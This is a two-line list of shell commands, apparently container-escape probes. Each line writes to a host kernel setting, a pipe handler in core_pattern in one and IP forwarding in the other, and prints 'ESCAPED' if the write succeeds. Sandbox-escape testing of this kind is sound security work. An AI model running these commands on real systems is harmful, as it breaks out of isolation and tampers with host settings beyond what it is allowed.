echo '|/bin/x' > /proc/sys/kernel/core_pattern && echo ESCAPED
echo 1 > /proc/sys/net/ipv4/ip_forward && echo ESCAPED
